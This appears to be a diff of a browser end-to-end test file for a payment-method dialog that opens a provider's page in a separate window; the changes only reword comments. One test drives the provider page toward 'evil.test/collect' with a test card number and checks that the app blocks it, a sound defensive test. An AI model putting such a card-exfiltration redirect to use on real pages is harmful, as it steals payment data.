@@ -5,7 +5,7 @@ import { openShellAs, pageOrigin, type HarnessedShell } from '../../support/shel
 import * as paymentTexts from '#shared/texts/payments'
 import * as commonTexts from '#shared/texts/common'
 
-/** Up to the provider's page in the window of main. */
+/** Proceeds to the provider's page in main's payment window. */
 async function proceed(context: BrowserContext, household: Household, type: PaymentType) {
   const opened = await openShellAs(context, household.person)
   const { page, payments } = opened
@@ -14,7 +14,7 @@ async function proceed(context: BrowserContext, household: Household, type: Paym
   const dialog = page.getByRole('dialog', { name: 'Add payment method' })
   await tick(dialog.getByRole('radio', { name: new RegExp(`^${paymentTypes[type].label}`) }))
   const proceedButton = dialog.getByRole('button', { name: paymentTexts.proceed })
-  /** The provider's page in one more window. */
+  /** Opens the provider's page in another window. */
   const openWindow = async () => {
     const count = payments.length + 1
     await proceedButton.click()
@@ -60,7 +60,7 @@ test('a card is registered there too: no page of the provider stands in the shel
 
 test('a provider that returns with a form is understood', async ({ context, household }) => {
   const { page, dialog, provider } = await proceed(context, household, 'AP')
-  // The sandbox returns with an address: what it says there is posted instead.
+  // The sandbox returns its result in the URL. Here it is posted instead.
   await provider.route('**/pay/**', async (route) => {
     if (route.request().method() !== 'POST') return route.fallback()
     const { location = '' } = (await route.fetch({ maxRedirects: 0 })).headers()
@@ -104,7 +104,7 @@ test('a window that is cancelled on its page, closed, cancelled in the dialog, o
   await led.evaluate(() => window.location.assign('https://evil.test/collect?card=4111')).catch(() => undefined)
   await expect(dialog.getByText(/Nothing was saved\. The payment page tried/)).toBeVisible()
   expect(isGone()).toBe(true)
-  // It was refused before anything was asked for there.
+  // It was blocked before any request.
   expect(reached).not.toContain('https://evil.test')
   await expect(page.getByText(paymentTexts.noMethods)).toBeAttached()
 })
